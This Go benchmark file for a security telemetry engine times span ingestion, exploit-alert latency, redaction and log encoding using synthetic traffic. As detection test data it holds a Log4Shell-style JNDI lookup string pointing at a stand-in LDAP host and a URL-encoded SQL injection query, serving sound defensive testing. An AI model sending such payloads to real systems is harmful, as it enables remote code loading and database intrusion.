package engine

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/gob"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/evidentsec/evident/internal/alert"
	"github.com/evidentsec/evident/internal/detect"
	"github.com/evidentsec/evident/internal/pipeline"
	"github.com/evidentsec/evident/internal/redact"
	"github.com/evidentsec/evident/internal/store"
	"github.com/evidentsec/evident/internal/store/sqlite"
	"github.com/evidentsec/evident/internal/telemetry"
)

// benchBatch is n spans of realistic traffic: requests to a handful of
// endpoints of three services, each with a database call and an outbound
// call, with the attributes instrumentations set; attack, when set, puts
// a JNDI payload in the first span's user agent.
func benchBatch(n int, seq int, attack bool) []telemetry.Span {
	out := make([]telemetry.Span, 0, n)
	at := t0.Add(time.Duration(seq) * time.Millisecond)
	for i := 0; len(out) < n; i++ {
		id := byte(i)
		svc := []string{"gateway", "orders", "catalog"}[i%3]
		route := fmt.Sprintf("/api/v1/items/{id}/%d", i%8)
		out = append(out,
			telemetry.Span{Service: svc, Kind: telemetry.SpanKindServer, TraceID: [16]byte{0: byte(seq), 1: byte(seq >> 8), 15: id},
				SpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 1, 7: id}, Name: "GET " + route, Start: at, End: at.Add(3 * time.Millisecond),
				Attrs: telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: route, URLPath: fmt.Sprintf("/api/v1/items/%d/%d", i, i%8),
					URLQuery: "currency=EUR&ref=home_page", StatusCode: 200, ClientAddress: "10.0.0.7",
					UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"}},
			telemetry.Span{Service: svc, Kind: telemetry.SpanKindClient, TraceID: [16]byte{0: byte(seq), 15: id},
				SpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 2, 7: id}, ParentSpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 1, 7: id},
				Name: "SELECT items", Start: at, End: at.Add(time.Millisecond),
				Attrs: telemetry.Attrs{DBSystem: "postgresql", DBNamespace: "shop", DBCollection: "items",
					DBQueryText: "SELECT id, name, price FROM items WHERE id = $1 AND deleted_at IS NULL"}},
			telemetry.Span{Service: svc, Kind: telemetry.SpanKindClient, TraceID: [16]byte{0: byte(seq), 15: id},
				SpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 3, 7: id}, ParentSpanID: [8]byte{0: byte(seq), 1: byte(seq >> 8), 6: 1, 7: id},
				Name: "POST", Start: at, End: at.Add(time.Millisecond),
				Attrs: telemetry.Attrs{HTTPMethod: "POST", ServerAddress: "api.stripe.com", URLFull: "https://api.stripe.com/v1/charges", StatusCode: 200}},
		)
	}
	out = out[:n]
	if attack {
		out[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
	}
	return out
}

// latencies is an Alerter that records exploit alerts' latency from
// receipt to hand-off.
type latencies struct {
	mu sync.Mutex
	d  []time.Duration
}

func (l *latencies) Fire(a detect.Alert) {
	if a.Kind != detect.KindExploitPayload {
		return
	}
	d := time.Since(a.ReceivedAt)
	l.mu.Lock()
	l.d = append(l.d, d)
	l.mu.Unlock()
}

func (l *latencies) report(b *testing.B) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.d) == 0 {
		return
	}
	slices.Sort(l.d)
	q := func(p float64) float64 { return float64(l.d[int(p*float64(len(l.d)-1))].Microseconds()) / 1000 }
	b.ReportMetric(q(0.5), "p50-alert-ms")
	b.ReportMetric(q(0.99), "p99-alert-ms")
}

func benchStores(b *testing.B) map[string]func(b *testing.B) Store {
	return map[string]func(b *testing.B) Store{
		"memory":        func(*testing.B) Store { return &memStore{} },
		"sqlite-normal": func(b *testing.B) Store { return openSQLite(b, "normal") },
		"sqlite-full":   func(b *testing.B) Store { return openSQLite(b, "full") },
	}
}

// openSQLite opens a SQLite store in a temporary directory with the
// given synchronous setting: "full" is the default, durable against power
// loss; "normal" against a crash of the process.
func openSQLite(b *testing.B, synchronous string) Store {
	cfg := sqlite.DefaultConfig()
	cfg.Synchronous = synchronous
	st, err := sqlite.Open(context.Background(), b.TempDir(), cfg)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	return st
}

// BenchmarkEngineThroughput offers 512-span batches (the OTel SDK's
// default batch) from 4 senders as fast as the engine takes them, with
// every detection and re-assessment on, retrying refused batches as a
// client would. spans/s is wall time; spans/cpu-s divides by the CPU the
// process used, which stays meaningful on a shared machine. Each store
// runs with the default redaction and with redaction off.
func BenchmarkEngineThroughput(b *testing.B) {
	for name, open := range benchStores(b) {
		for _, rc := range []struct {
			name string
			cfg  redact.Config
		}{{"redact", redact.DefaultConfig()}, {"no-redact", redact.Config{}}} {
			b.Run(name+"/"+rc.name, func(b *testing.B) {
				benchThroughput(b, open, rc.cfg)
			})
		}
	}
}

func benchThroughput(b *testing.B, open func(*testing.B) Store, rcfg redact.Config) {
	lat := &latencies{}
	cfg := DefaultConfig()
	cfg.CheckpointInterval = time.Second
	e := newEngine(b, cfg, open(b), lat, nil)
	red, err := redact.New(rcfg)
	if err != nil {
		b.Fatal(err)
	}
	e.red, e.w.exploits = red, e.rules.NewScanner(red)
	ctx := context.Background()
	if err := e.Start(ctx); err != nil {
		b.Fatal(err)
	}
	if err := e.SetFindings(ctx, allFindings(textFinding("gateway"), textFinding("orders"))); err != nil {
		b.Fatal(err)
	}
	const size = 512
	batches := make([][]telemetry.Span, 64)
	for i := range batches {
		batches[i] = benchBatch(size, i, true)
	}
	traces := e.TracesConsumer()
	cpu0 := cpuTime()
	b.ResetTimer()
	var wg sync.WaitGroup
	work := make(chan int)
	for range 4 {
		wg.Go(func() {
			for i := range work {
				for {
					err := traces.Consume(ctx, slices.Clone(batches[i%len(batches)]))
					if err == nil {
						break
					}
					if !errors.Is(err, pipeline.ErrFull) {
						b.Error(err)
						return
					}
					time.Sleep(time.Millisecond)
				}
			}
		})
	}
	for i := range b.N {
		work <- i
	}
	close(work)
	wg.Wait()
	for len(e.slots) > 0 {
		time.Sleep(100 * time.Microsecond)
	}
	b.StopTimer()
	cpu := (cpuTime() - cpu0).Seconds()
	spans := float64(b.N * size)
	b.ReportMetric(spans/b.Elapsed().Seconds(), "spans/s")
	b.ReportMetric(spans/cpu, "spans/cpu-s")
	lat.report(b)
	if err := e.Shutdown(ctx); err != nil {
		b.Fatal(err)
	}
}

// BenchmarkAlertLatency offers 512-span batches at a fixed rate of about
// 25k spans/s, each with one exploit payload, and reports the latency
// from receipt to the alert's hand-off to the router.
func BenchmarkAlertLatency(b *testing.B) {
	for name, open := range benchStores(b) {
		b.Run(name, func(b *testing.B) {
			lat := &latencies{}
			e := newEngine(b, DefaultConfig(), open(b), lat, nil)
			ctx := context.Background()
			if err := e.Start(ctx); err != nil {
				b.Fatal(err)
			}
			traces := e.TracesConsumer()
			const size, every = 512, 20 * time.Millisecond
			tick := time.NewTicker(every)
			defer tick.Stop()
			b.ResetTimer()
			for i := range b.N {
				<-tick.C
				if err := traces.Consume(ctx, benchBatch(size, i, true)); err != nil {
					b.Fatal(err)
				}
			}
			for len(e.slots) > 0 {
				time.Sleep(100 * time.Microsecond)
			}
			b.StopTimer()
			lat.report(b)
			if err := e.Shutdown(ctx); err != nil {
				b.Fatal(err)
			}
		})
	}
}

// cpuTime is the CPU time the process used so far.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// BenchmarkLogEncode is the cost of encoding a batch of 1000 spans for
// the log: as an OTLP trace request, as logged now, and with
// encoding/gob, as logged before (and still for spans OTLP cannot carry).
func BenchmarkLogEncode(b *testing.B) {
	spans := benchBatch(1000, 1, false)
	for _, tc := range []struct {
		name string
		enc  func() ([]byte, error)
	}{
		{"trace_request", func() ([]byte, error) {
			_, p, err := encode(&item{kind: store.BatchSpans, spans: spans}, nil)
			return p, err
		}},
		{"gob", func() ([]byte, error) {
			var buf bytes.Buffer
			err := gob.NewEncoder(&buf).Encode(spans)
			return buf.Bytes(), err
		}},
	} {
		b.Run(tc.name, func(b *testing.B) {
			b.ReportAllocs()
			var size int
			cpu0 := cpuTime()
			for b.Loop() {
				p, err := tc.enc()
				if err != nil {
					b.Fatal(err)
				}
				size = len(p)
			}
			// CPU time, garbage collection included, tells more than wall
			// time on a shared machine.
			b.ReportMetric(float64(len(spans))*float64(b.N)/(cpuTime()-cpu0).Seconds(), "spans/cpu-s")
			b.ReportMetric(float64(size), "bytes/batch")
		})
	}
}

// BenchmarkLogRedact is the cost of making a 1000-span batch ready for
// the log, with the default redaction: its spans redacted and encoded as
// an OTLP trace request (spans, what the engine does with spans that come
// without their request), or the request as received redacted on the wire
// (received: nothing to mask, logged as it arrived; received-secrets:
// every tenth span has a token in its query, and the batch is decoded
// again from the redacted request).
func BenchmarkLogRedact(b *testing.B) {
	e := newEngine(b, DefaultConfig(), &memStore{}, nil, nil)
	clean := benchBatch(1000, 1, false)
	secrets := benchBatch(1000, 1, false)
	for i := 0; i < len(secrets); i += 10 {
		secrets[i].Attrs.URLQuery = "access_token=SECRET123&currency=EUR"
	}
	for _, tc := range []struct {
		name     string
		spans    []telemetry.Span
		received bool
	}{{"spans", clean, false}, {"received", clean, true}, {"received-secrets", secrets, true}} {
		b.Run(tc.name, func(b *testing.B) {
			var req []byte
			var texts *telemetry.Texts
			spans := tc.spans
			if tc.received {
				req = requestOf(b, tc.spans)
				var err error
				if spans, texts, err = telemetry.DecodeReceivedTraceRequest(nil, nil, req, "bench", func(int) error { return nil }); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportAllocs()
			cpu0 := cpuTime()
			for b.Loop() {
				it := item{kind: store.BatchSpans, raw: spans, received: req, texts: texts}
				e.redact(&it)
				if _, _, err := encode(&it, nil); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(len(spans))*float64(b.N)/(cpuTime()-cpu0).Seconds(), "spans/cpu-s")
		})
	}
}

// BenchmarkLogProfile is the cost of logging a real profile and of
// replaying it: the shop's recorded CPU profile of catalog
// (examples/shop/recorded, span labels on its samples) as Pyroscope's
// /ingest receives it, made ready for the log with the default redaction
// and decoded again as replay does, logged as received (received) or as
// its decoded batches in encoding/gob (gob: the log before, and still
// for profiles redaction changes).
func BenchmarkLogProfile(b *testing.B) {
	gz, err := os.ReadFile(filepath.Join("..", "..", "examples", "shop", "recorded", "profiles", "catalog", "cpu.pb.gz"))
	if err != nil {
		b.Fatal(err)
	}
	zr, err := gzip.NewReader(bytes.NewReader(gz))
	if err != nil {
		b.Fatal(err)
	}
	raw, err := io.ReadAll(zr)
	if err != nil {
		b.Fatal(err)
	}
	req := ingested(raw, "catalog")
	ps, err := req.Decode()
	if err != nil {
		b.Fatal(err)
	}
	e := newEngine(b, DefaultConfig(), &memStore{}, nil, nil)
	for _, tc := range []struct {
		name string
		preq *telemetry.ProfileRequest
	}{{"gob", nil}, {"received", req}} {
		it := item{kind: store.BatchProfiles, profiles: ps, preq: tc.preq}
		e.redact(&it)
		kind, payload, err := encode(&it, nil)
		if err != nil {
			b.Fatal(err)
		}
		b.Run("encode/"+tc.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				it := item{kind: store.BatchProfiles, profiles: ps, preq: tc.preq}
				e.redact(&it)
				if _, _, err := encode(&it, nil); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(len(payload)), "bytes/profile")
		})
		b.Run("replay/"+tc.name, func(b *testing.B) {
			b.ReportAllocs()
			// One decoder for every batch, as restore replays them.
			var pd telemetry.ProfileDecoder
			for b.Loop() {
				if _, err := decode(&pd, kind, payload); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkApply is the worker's cost per span of applying 1000-span
// batches (the model, the exploit rules, the anomaly detector), with
// the alerts handed to a real alert router: clean, every span with a
// benign query string; attack, every span with a SQL injection in it,
// as a scanner sends (the router keeps the first alert of each
// endpoint and rule and drops the rest as duplicates or over the rate).
// The attack/clean ratio of cpu-ns/span is what detection costs on
// hostile traffic.
func BenchmarkApply(b *testing.B) {
	for _, bc := range []struct{ name, query string }{
		{"clean", "currency=EUR&ref=home_page"},
		{"attack", "id=1%27%20OR%201=1--"},
	} {
		b.Run(bc.name, func(b *testing.B) {
			reg := prometheus.NewRegistry()
			router, err := alert.NewRouter(alert.DefaultConfig(), nil, alert.Deps{Registerer: reg})
			if err != nil {
				b.Fatal(err)
			}
			e := newEngine(b, DefaultConfig(), &memStore{}, router, reg)
			const size = 1000
			batches := make([]item, 64)
			for i := range batches {
				spans := benchBatch(size, i, false)
				for j := range spans {
					spans[j].Attrs.URLQuery = bc.query
				}
				batches[i] = item{kind: store.BatchSpans, seq: int64(i + 1), spans: spans, raw: spans, receivedAt: time.Now()}
			}
			b.ReportAllocs()
			cpu0 := cpuTime()
			i := 0
			for b.Loop() {
				e.apply(batches[i%len(batches)])
				i++
			}
			cpu := (cpuTime() - cpu0).Seconds()
			b.ReportMetric(cpu*1e9/float64(b.N*size), "cpu-ns/span")
			b.ReportMetric(float64(b.N*size)/cpu, "spans/cpu-s")
		})
	}
}
